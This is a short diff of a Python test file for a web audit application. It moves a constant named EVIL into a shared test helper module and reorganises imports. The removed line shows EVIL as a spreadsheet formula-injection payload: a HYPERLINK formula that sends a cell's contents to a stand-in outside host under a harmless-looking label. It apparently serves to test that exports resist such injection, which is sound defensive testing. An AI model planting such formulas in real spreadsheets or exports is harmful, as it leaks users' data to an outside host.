@@ -18,14 +18,13 @@ from audit.storage.columns import Column
 from audit.storage.connections import Connections, Row
 from audit.web import submitted_visits
 from tests import cast
-from tests.web.handed_out import book_of, lines_of, rows_of
+from tests.web.handed_out import EVIL, book_of, lines_of, rows_of
+from tests.web.links import share
 from tests.web.office import PASSWORD, Browser, Office, text_of
-from tests.web.test_shares import share
 
 LISTS = ("branches", "people", "assignments", "visits", "shares")
 PAGES = {"branches": "/branches", "people": "/people", "assignments": "/assignments", "visits": "/visits"}
 PAGES["shares"] = "/shares"
-EVIL = '=HYPERLINK("http://elsewhere.example/?"&A1,"Mill Lane")'
 
 
 @pytest.fixture
